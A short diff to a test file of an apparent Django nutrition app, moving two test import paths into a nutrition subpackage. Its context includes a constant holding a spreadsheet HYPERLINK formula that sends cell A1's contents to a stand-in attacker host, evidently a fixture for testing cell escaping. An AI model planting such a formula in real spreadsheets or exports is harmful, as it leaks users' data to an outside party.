@@ -13,8 +13,8 @@ from django.urls import reverse
 from config.spreadsheet import escape_cell, unescape_cell
 from nutrition.curation import csvfile
 from nutrition.models import Food, Portion
-from tests.test_curation_import import CSV, _apply, _export, _upload, _zip
-from tests.test_import_fdc import BANANA, download  # noqa: F401 - a fixture
+from tests.nutrition.test_curation_import import CSV, _apply, _export, _upload, _zip
+from tests.nutrition.test_import_fdc import BANANA, download  # noqa: F401 - a fixture
 
 IMPORT = "admin:nutrition_food_import"
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'
